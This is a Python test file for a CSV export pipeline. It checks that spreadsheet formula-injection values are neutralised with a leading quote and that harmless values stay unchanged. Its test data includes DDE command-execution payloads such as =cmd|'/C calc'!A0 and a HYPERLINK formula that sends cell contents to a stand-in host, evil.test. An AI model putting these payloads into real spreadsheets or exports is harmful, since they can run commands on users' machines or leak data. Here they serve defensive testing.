"""Cells that a spreadsheet would run, and those that only look like it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from producer.manifest import open_manifest
from producer.row import Row
from results.cell import guarded, unguarded
from results.failed_csv import FailedCsv
from results.tables import ResultsCsv
from schemas.failure import ErrorClass
from schemas.result import JobResult
from schemas.states import JobState
from tests.results.orders import batch, failure, result

COLUMNS = ("sku", "prompt", "=cmd|'/C calc'!A0")
FORMULAS = [
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''+1+1",
    "=",
    "--1",
]
HONEST = [
    "-5",
    "+8613800138000",
    "-0.5",
    "1e-3",
    "a=b",
    "a cup - blue",
    "5-3",
    "'tis",
    "me@x",
    "猫",
    "",
]
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", re.IGNORECASE)


def failed(cell: str) -> JobResult:
    told = failure(ErrorClass.INVALID, code=cell or "none", message=cell)
    row = {"sku": "A", "prompt": cell, COLUMNS[2]: cell}
    return result(state=JobState.FAILED, failures=[told], ticket=cell, row=row)


def written(path: Path, table: str, cell: str) -> Path:
    given: ResultsCsv | FailedCsv
    if table == "results":
        given = ResultsCsv(path / "results.csv", batch(COLUMNS))
    else:
        given = FailedCsv(path / "failed.csv", batch(COLUMNS))
    given.add(failed(cell))
    given.close()
    return path / f"{table}.csv"


def cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("table", ["results", "failed"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(tmp_path: Path, table: str, formula: str) -> None:
    found = cells(written(tmp_path, table, formula))
    assert f"'{formula}" in found
    for cell in found:
        assert not FORMULA.match(cell) or NUMBER.fullmatch(cell), cell


@pytest.mark.parametrize("table", ["results", "failed"])
@pytest.mark.parametrize("honest", HONEST)
def test_honest_cells_stay_as_they_are(tmp_path: Path, table: str, honest: str) -> None:
    assert cells(written(tmp_path, table, honest)).count(honest) >= 2


@pytest.mark.parametrize("cell", [*FORMULAS, *HONEST[:-1]])
def test_a_failed_csv_that_is_handed_in_orders_what_was_ordered(tmp_path: Path, cell: str) -> None:
    path = written(tmp_path, "failed", cell)
    with open_manifest(str(path)) as manifest:
        (row,) = manifest.rows()
    assert isinstance(row, Row)
    assert manifest.columns == COLUMNS
    assert row.cells == {"sku": "A", "prompt": cell, COLUMNS[2]: cell}


@given(st.text())
def test_a_guard_can_be_taken_off(text: str) -> None:
    assert unguarded(guarded(text)) == text
